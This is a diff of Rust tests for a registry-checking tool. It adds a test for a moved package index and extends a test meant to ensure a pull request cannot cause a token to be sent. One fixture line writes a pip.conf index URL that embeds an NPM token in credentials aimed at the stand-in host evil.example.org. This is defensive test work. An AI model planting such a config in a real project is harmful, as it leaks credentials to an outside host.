@@ -421,6 +421,17 @@ fn without_a_registry_it_says_what_to_set() {
 }
 
 #[test]
+fn a_registry_that_moved_is_noted() {
+    let lock = uv("idna", &[(PURE, 'a')]);
+    let page = simple("idna", &[(PURE, 'a', "")]);
+    let bench = Bench::new(&[PYTHON, PROJECT, ("uv.lock", &lock)], &[("/simple/idna/", &page)]);
+    let outcome = bench.run(&["--all"], &[("UV_DEFAULT_INDEX", "https://mirror.example.com/simple")]);
+    assert_eq!(outcome.code, 0, "{}", outcome.out);
+    assert!(outcome.out.contains("moved         registry @/simple"), "{}", outcome.out);
+    assert!(outcome.out.contains("today's settings choose https://mirror.example.com/simple"), "{}", outcome.out);
+}
+
+#[test]
 fn offline_it_answers_from_the_cache() {
     let lock = uv("idna", &[(PURE, 'a')]);
     let bench =
@@ -505,7 +516,14 @@ fn a_pull_request_cannot_have_a_token_sent() {
     bench.write("pip.conf", "[global]\nindex-url = http://${NPM_TOKEN}@evil.example.org/simple\n");
     bench.write("pyproject.toml", "[[tool.poetry.source]]\nname = \"corp\"\nurl = \"@/simple\"\n");
     fs::write(bench.home.path().join(".netrc"), "machine 127.0.0.1 login l password secret\n").unwrap();
+    bench.write("ci.conf", "[global]\nindex-url = @/simple\n");
+    bench.write(".cargo/config.toml", "[registries.corp]\nindex = \"sparse+@/index/\"\n");
+    // Variables that lead into the repository, as some CI has them, make its files nobody's own.
     let variables = [
+        ("PIP_CONFIG_FILE", "ci.conf"),
+        ("NPM_CONFIG_USERCONFIG", ".npmrc"),
+        ("CARGO_HOME", ".cargo"),
+        ("CARGO_REGISTRIES_CORP_TOKEN", "secret"),
         ("NPM_TOKEN", "secret"),
         ("POETRY_HTTP_BASIC_CORP_PASSWORD", "secret"),
         ("POETRY_HTTP_BASIC_CORP_USERNAME", "u"),
